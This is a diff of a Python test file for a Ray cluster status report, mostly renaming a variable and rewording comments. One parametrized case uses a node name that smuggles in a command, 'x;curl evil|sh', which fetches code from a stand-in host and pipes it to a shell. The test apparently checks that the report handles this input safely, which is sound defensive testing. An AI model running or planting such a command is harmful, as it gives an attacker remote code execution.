@@ -37,19 +37,19 @@ def report(cluster: ClusterInfo, logs: Any = None, plans: Any = KEPT, **scope: A
 
 
 def test_report_of_a_ready_cluster() -> None:
-    found = report(ALIVE, plans=KEPT | {"worker-0": planned("create")}, outside=["worker-2", "worker-3"])
+    result = report(ALIVE, plans=KEPT | {"worker-0": planned("create")}, outside=["worker-2", "worker-3"])
     # What is free, and the jobs on it.
     worker = {"node_name": "worker-0", "state": "ALIVE", "resources_total": {}, "free": "GPU 1", "jobs": ["a", "b"]}
     used = report(replace(ALIVE, nodes=[{**worker, "state": "DEAD", "jobs": []}, worker]))
     assert (used["header"][3:5], used["rows"][1][3:5]) == (["free", "jobs"], ["GPU 1", "a, b"])
     assert used["rows"][2][3:5] == [None, None]
-    assert found["title"] == "Cluster mvp: 3 of 3 nodes as expected, 2 not in this run"
-    assert found["header"] == ["node", "state", "resources", "accelerator", "action"]
-    assert found["rows"][:2] == [
+    assert result["title"] == "Cluster mvp: 3 of 3 nodes as expected, 2 not in this run"
+    assert result["header"] == ["node", "state", "resources", "accelerator", "action"]
+    assert result["rows"][:2] == [
         ["ray-head", "alive", "GPU 4", "cpu", "keep"],
         ["worker-0", "alive", "GPU 4", "cpu", "create"],
     ]
-    assert (found["text"], found["fail_when"]) == ([f"Dashboard: {DASHBOARD}"], "")
+    assert (result["text"], result["fail_when"]) == ([f"Dashboard: {DASHBOARD}"], "")
 
 
 def ray_node(name: str, state: str = "ALIVE") -> dict[str, object]:
@@ -70,23 +70,23 @@ def ray_node(name: str, state: str = "ALIVE") -> dict[str, object]:
         (replace(ALIVE, nodes=[ray_node("x;curl evil|sh\nroot")]), [r"x;curl evil|sh\nroot at"]),
     ],
 )
-def test_what_people_have_to_know_about(cluster: ClusterInfo, words: list[str]) -> None:
-    found = report(cluster)
-    (line,) = [line for line in found["text"] if not line.startswith("Dashboard")]
-    assert all(word in line for word in words) and found["fail_when"] == ""
+def test_notes_for_operators(cluster: ClusterInfo, words: list[str]) -> None:
+    result = report(cluster)
+    (line,) = [line for line in result["text"] if not line.startswith("Dashboard")]
+    assert all(word in line for word in words) and result["fail_when"] == ""
     assert "evil" not in line or "drain.yml" not in line
 
 
 def test_report_of_missing_nodes_has_the_end_of_their_logs() -> None:
     log = [*(f"line {number}" for number in range(40)), "wrong token"]
-    found = report(info("alive", "missing", "differs"), {"worker-0": log, "ray-head": ["healthy"]})
-    assert found["title"] == "Cluster mvp: 1 of 3 nodes as expected"
-    assert found["header"][2:4] == ["expected", "seen"]
-    assert found["rows"][1] == ["worker-0", "missing", "GPU 4", "never joined", "cpu", "keep"]
+    result = report(info("alive", "missing", "differs"), {"worker-0": log, "ray-head": ["healthy"]})
+    assert result["title"] == "Cluster mvp: 1 of 3 nodes as expected"
+    assert result["header"][2:4] == ["expected", "seen"]
+    assert result["rows"][1] == ["worker-0", "missing", "GPU 4", "never joined", "cpu", "keep"]
     # worker-1 has no log, so it is only in the table.
     lines = [f"  line {number}" for number in range(40 - LOG_LINES + 1, 40)]
-    assert found["text"] == ["The last lines of worker-0:", *lines, "  wrong token"]
-    assert "`docker logs NODE`" in found["fail_when"]
+    assert result["text"] == ["The last lines of worker-0:", *lines, "  wrong token"]
+    assert "`docker logs NODE`" in result["fail_when"]
 
 
 def test_without_the_head_only_its_log_is_shown() -> None:
@@ -95,15 +95,15 @@ def test_without_the_head_only_its_log_is_shown() -> None:
     # The engine has no log of the head, but of workers.
     assert report(NONE, {"worker-0": ["no head"]})["text"][1:] == ["  no head"]
     # A node outside this run has neither an action nor an accelerator.
-    found = report(replace(NONE, problem="it does not answer"), plans={name: planned() for name in NODES[:2]})
-    assert found["text"] == ["The head: it does not answer"] and found["fail_when"]
-    assert found["rows"][2] == ["worker-1", "missing", "GPU 4", "never joined", None, None]
+    result = report(replace(NONE, problem="it does not answer"), plans={name: planned() for name in NODES[:2]})
+    assert result["text"] == ["The head: it does not answer"] and result["fail_when"]
+    assert result["rows"][2] == ["worker-1", "missing", "GPU 4", "never joined", None, None]
 
 
 def test_where_the_log_of_a_missing_node_is() -> None:
     plans, removed = KEPT | {"worker-1": planned("create")}, info("alive", "alive", "missing")
     process = {"worker-0": planned(process={"directory": "/home/ml/nodes/worker-0"})}
-    # That of a container that this run has not created is gone with it.
+    # The log of a container that was removed, and that this run has not created again, is gone.
     for cluster, logs, of, end in (
         (removed, {}, plans, "the nodes that are missing"),
         (removed, {"worker-1": ["wrong token"]}, plans, "`docker logs worker-1` shows more"),
@@ -120,13 +120,13 @@ TWO, ONE = info("alive", "alive", "missing"), info("alive", "missing", "differs"
     ("cluster", "least", "goes_on"),
     [
         *((TWO, None, False), (TWO, 1, True), (TWO, 2, False), (ONE, 1, False), (ONE, 0, True)),
-        # More than there are is all of them.
+        # A larger number than there are workers means all of them.
         *((TWO, 7, False), (ALIVE, 7, True)),
         # No number of workers replaces the head.
         *((info("missing", "alive", "alive"), 0, False), (replace(TWO, problem="it is slow"), 0, False)),
     ],
 )
 def test_fewer_workers_are_enough_if_they_are_asked_for(cluster: ClusterInfo, least: int | None, goes_on: bool) -> None:
-    found = report(cluster, least=least)
-    assert (found["fail_when"] == "") is goes_on
-    assert any("cluster_min_workers" in line for line in found["text"]) == (goes_on and bool(cluster.missing))
+    result = report(cluster, least=least)
+    assert (result["fail_when"] == "") is goes_on
+    assert any("cluster_min_workers" in line for line in result["text"]) == (goes_on and bool(cluster.missing))
